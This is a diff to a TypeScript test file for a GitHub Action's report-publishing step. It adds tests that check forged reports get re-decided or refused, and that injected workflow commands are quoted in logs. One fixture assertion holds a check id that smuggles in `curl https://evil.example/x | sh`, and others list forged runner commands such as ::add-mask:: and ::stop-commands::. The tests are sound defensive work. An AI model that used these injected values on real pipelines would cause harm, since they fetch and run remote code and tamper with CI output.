@@ -10,11 +10,13 @@ import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { COMMENT_LIMIT } from '../../src/report/comment.js';
+import { repoRoot } from '../shared.js';
 import { startActionsCacheServer, type ActionsCacheServer } from '../servers/actions-cache.js';
 import { startFileServer, type FileServer } from '../servers/file-server.js';
 import { startGitHubApiServer, type GitHubApiServer } from '../servers/github-api.js';
 import {
   commands,
+  commandsRead,
   ORT_VERSION,
   pullRequestEvent,
   pushEvent,
@@ -23,6 +25,7 @@ import {
 } from './harness.js';
 
 const TOKEN = 'ghs_actiontesttoken';
+const HOSTILE = path.join(repoRoot, 'test', 'fixtures', 'hostile');
 const MARKER = '<!-- metacompress:gates/tiny.yml -->';
 const RUN_URL = (id: number) => `https://github.com/octo/distil/actions/runs/${id}`;
 const sha256 = (data: Buffer | string) => createHash('sha256').update(data).digest('hex');
@@ -523,6 +526,7 @@ describe('the fork-safe recipe (workflow_run publishes a report made by the pull
     runner.fresh();
     const published = await runner.run({
       inputs: {
+        config: 'gates/tiny.yml',
         'github-token': TOKEN,
         report: 'downloaded/report.json',
         'pull-request': '13',
@@ -544,7 +548,10 @@ describe('the fork-safe recipe (workflow_run publishes a report made by the pull
     expect(comment.body.startsWith('<!-- metacompress:metacompress -->\n### ❌ MetaCompress')).toBe(
       true,
     );
-    expect(comment.body).toContain(`[workflow run and job summary](${RUN_URL(301)})`);
+    expect(comment.body).toContain(
+      "<sub>verdict decided here from the counts of a report another job made, with this config's ceilings · config `gates/tiny.yml` · " +
+        `[workflow run and job summary](${RUN_URL(301)})</sub>`,
+    );
     expect(published.outputs).toMatchObject({ passed: 'false', 'mr1-rate': '1' });
     expect(published.summary).toMatch(/^### ❌ MetaCompress: Fidelity gate FAILED on MR1, MR2\./);
 
@@ -552,6 +559,7 @@ describe('the fork-safe recipe (workflow_run publishes a report made by the pull
     github.requests.length = 0;
     const stale = await runner.run({
       inputs: {
+        config: 'gates/tiny.yml',
         'github-token': TOKEN,
         report: 'downloaded/report.json',
         'pull-request': '13',
@@ -565,6 +573,111 @@ describe('the fork-safe recipe (workflow_run publishes a report made by the pull
       `::warning::Not commenting on pull request #13: its head is ${head}, but the report comes from a run of ${'d'.repeat(40)}`,
       '::warning::The fidelity gate failed (2 checks), but fail-on-violation is false',
     ]);
+  });
+});
+
+describe('a forged report (test/fixtures/hostile, make_forged_reports.py) in the workflow_run recipe', () => {
+  const head = 'e'.repeat(40);
+  const event = {
+    name: 'workflow_run',
+    ref: 'refs/heads/main',
+    payload: {
+      action: 'completed',
+      workflow_run: { id: 78, event: 'pull_request', head_sha: head, pull_requests: [] },
+      repository: { name: 'distil', owner: { login: 'octo' }, default_branch: 'main' },
+    },
+  };
+  const publish = (report: string, inputs: Record<string, string> = {}) => {
+    runner.write({
+      'downloaded/forged.json': readFileSync(path.join(HOSTILE, report)),
+    });
+    return runner.run({
+      inputs: {
+        'github-token': TOKEN,
+        report: 'downloaded/forged.json',
+        'pull-request': '21',
+        'fail-on-violation': 'false',
+        ...inputs,
+      },
+      event,
+    });
+  };
+
+  it('"passed" with MR1 at 8 of 8: decided again with the config here, it fails', async () => {
+    github.addPullRequest('octo', 'distil', 21, head);
+    const result = await publish('forged-pass.json', { config: 'gates/tiny.yml' });
+    expect(result.code).toBe(0);
+    expect(result.outputs).toMatchObject({ passed: 'false', 'mr1-rate': '1' });
+    const body = github.comments.find((c) => c.issueNumber === 21)!.body;
+    expect(body).toMatch(
+      /^<!-- metacompress:metacompress -->\n### ❌ MetaCompress: Fidelity gate FAILED on MR1, MR2, MR3, MR4\./,
+    );
+    expect(body).toMatch(
+      /\| MR1 \| disagreement +\| +100\.0% \(8\/8\) \| +67\.6–100\.0% \| +10\.0% \| ❌ FAIL \|/,
+    );
+    expect(commands(result.stdout, 'warning')).toContain(
+      '::warning::The fidelity gate failed (4 checks), but fail-on-violation is false',
+    );
+  });
+
+  it('without a config to decide it again: "not verified", and the step fails', async () => {
+    github.addPullRequest('octo', 'distil', 21, head);
+    const result = await publish('forged-pass.json');
+    expect(result.code).toBe(1);
+    expect(result.outputs).toMatchObject({ passed: 'false' });
+    const body = github.comments.find((c) => c.issueNumber === 21)!.body;
+    expect(body).toMatch(
+      /^<!-- metacompress:metacompress -->\n### ❌ MetaCompress: not verified\n/,
+    );
+    expect(body).not.toContain('✅ MetaCompress');
+    expect(commands(result.stdout, 'error')).toEqual([
+      "::error::The report downloaded/forged.json was made by another job and is not verified: give config: (this repository's metacompress.yml, from the base branch) to decide its verdict again here; see the workflow_run recipe in docs/action.md",
+    ]);
+  });
+
+  it('a check id holding a shell command and a newline: refused with one line, no output, no comment', async () => {
+    github.addPullRequest('octo', 'distil', 22, head);
+    const result = await publish('forged-check-id.json', {
+      config: 'gates/tiny.yml',
+      'pull-request': '22',
+    });
+    expect(result.code).toBe(1);
+    expect(result.outputs).toEqual({});
+    expect(github.comments.filter((c) => c.issueNumber === 22)).toEqual([]);
+    const errors = commands(result.stdout, 'error');
+    expect(errors).toHaveLength(1);
+    expect(errors[0]).toMatch(
+      /^::error::report .*forged\.json: not a complete report of version 2: gate\.checks: "MR9\\"; curl https:\/\/evil\.example\/x \| sh; echo \\"\\nMR1" is not a check id/,
+    );
+    expectNoStackTrace(result);
+  });
+});
+
+describe('the report in the log, where there is no job summary (older GitHub Enterprise, local runners)', () => {
+  it('the hostile data set’s workflow commands are quoted: the runner reads none of them', async () => {
+    for (const name of ['metacompress.yml', 'dataset.jsonl', 'teacher.jsonl', 'student.jsonl']) {
+      runner.write({ [`hostile/${name}`]: readFileSync(path.join(HOSTILE, name)) });
+    }
+    const result = await runner.run({
+      inputs: { config: 'hostile/metacompress.yml', comment: 'false' },
+      env: { GITHUB_STEP_SUMMARY: '' },
+    });
+    expect(result.code).toBe(1);
+    // The report is in the log, with the data set's code and its commands in it…
+    for (const line of [
+      '::add-mask::MR1',
+      '::error title=Security::forged annotation',
+      '##[error]old-style command',
+      '  ::stop-commands::deadbeef',
+    ]) {
+      expect(result.stdout.split('\n')).toContain(line);
+    }
+    // …and the runner reads only the action's own commands: one stop and resume per quoted text, the failures.
+    const read = commandsRead(result.stdout);
+    expect(read.filter((c) => !/^(stop-commands|error|debug):/.test(c))).toEqual([]);
+    expect(read.filter((c) => c.startsWith('stop-commands:')).length).toBeGreaterThan(0);
+    expect(read.filter((c) => c.startsWith('error:'))).toHaveLength(5);
+    expect(read.join('\n')).not.toMatch(/add-mask|Security|deadbeef|old-style/);
   });
 });
 
